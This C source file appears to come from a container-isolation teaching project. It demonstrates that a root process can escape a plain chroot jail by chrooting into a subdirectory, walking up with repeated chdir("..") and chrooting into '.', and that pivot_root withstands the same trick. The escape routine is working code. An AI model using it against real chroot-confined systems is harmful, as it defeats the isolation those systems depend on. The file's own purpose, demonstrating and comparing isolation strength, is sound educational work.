/*
 * demo_breakout.c - `cv-rootfs breakout`: the same escape tried after
 * chroot and after pivot_root, each in a mount namespace of its own, on a
 * marker file only the host has.
 */
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "01-namespaces/namespaces.h"
#include "01-namespaces/spawn.h"
#include "03-rootfs/demo.h"
#include "common/child.h"

/*
 * The classic escape from chroot: chroot into a subdirectory while the
 * current directory stays where it was - outside the new root - then
 * walk up with "..": nothing stops a cwd that is not below the root.
 * At the top, chroot(".") is the host's "/" again.  It needs
 * CAP_SYS_CHROOT, which root in a container may well have.
 */
static bool try_escape(const char *marker)
{
	struct stat st;

	if (chdir("/") < 0 || chroot("tmp") < 0) /* cwd is now above the root */
		return false;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return false;
	return chroot(".") == 0 && stat(marker, &st) == 0;
}

struct breakout {
	const char *rootfs, *marker;
	bool pivot;
};

static int breakout_child(void *arg)
{
	struct breakout *b = arg;
	struct cv_rootfs_spec spec;
	struct cv_err err;
	bool out;

	if (b->pivot) {
		cv_rootfs_spec_init(&spec); /* nothing but the root switch itself */
		spec.root = b->rootfs;
		spec.n_mounts = 0;
		spec.populate_dev = false;
		spec.masked = spec.readonly_paths = NULL;
		if (cv_rootfs_enter(&spec, &err) < 0) {
			cv_err_print(&err, "cv-rootfs");
			return 2;
		}
	} else if (chroot(b->rootfs) < 0 || chdir("/") < 0) {
		perror("chroot");
		return 2;
	}
	out = try_escape(b->marker);
	printf("  after %-11s chroot(\"tmp\"), 64 x chdir(\"..\"), chroot(\".\"): %s %s\n",
	       b->pivot ? "pivot_root:" : "chroot:", b->marker,
	       out ? "is there: ESCAPED to the host's /" : "is not there: still inside");
	fflush(stdout);
	return out ? 1 : 0;
}

static int breakout_run(const char *rootfs, const char *marker, bool pivot, struct cv_err *err)
{
	struct breakout b = {rootfs, marker, pivot};
	struct cv_ns_spec *ns = calloc(1, sizeof(*ns));
	pid_t pid;

	if (!ns)
		return -1;
	cv_ns_spec_init(ns);
	ns->flags = CLONE_NEWNS; /* whatever it mounts or moves, the host keeps its own */
	pid = cv_ns_spawn(ns, breakout_child, &b, err);
	free(ns);
	return pid < 0 ? -1 : cv_wait_forwarding(pid, NULL);
}

int cmd_breakout(struct cv_args *a)
{
	const char *rootfs = "build/rootfs";
	char marker[64], abs_root[4096];
	int opt, chrooted, pivoted;
	FILE *f;

	while ((opt = cv_args_next(a)) > 0 || opt == CV_ARG_POSITIONAL)
		rootfs = a->val;
	if (opt < 0 && opt != CV_ARG_POSITIONAL)
		return opt == CV_ARG_HELP ? 0 : CV_EXIT_USAGE;
	if (!realpath(rootfs, abs_root)) {
		cv_err_sys(a->err, "rootfs `%s`", rootfs);
		return 1;
	}
	cv_defer_signals(); /* the marker file is removed before a signal ends us */
	snprintf(marker, sizeof(marker), "/tmp/cv-breakout-%d", (int)getpid());
	if (!(f = fopen(marker, "w")) || fputs("a file only the host has\n", f) < 0 || fclose(f)) {
		cv_err_sys(a->err, "writing `%s`", marker);
		return 1;
	}
	printf("cv-rootfs: %s exists on the host only; can a process in %s reach it?\n", marker,
	       abs_root);
	chrooted = breakout_run(abs_root, marker, false, a->err);
	pivoted = cv_signal_pending() ? -1 : breakout_run(abs_root, marker, true, a->err);
	unlink(marker);
	cv_raise_deferred();
	if (chrooted < 0 || pivoted < 0)
		return 1;
	printf("cv-rootfs: %s\n", chrooted == 1 && pivoted == 0
				      ? "chroot was escaped; pivot_root held (the old root "
					"was detached: there is nothing above / to walk to)"
				      : "unexpected: see above");
	return chrooted == 1 && pivoted == 0 ? 0 : 1;
}
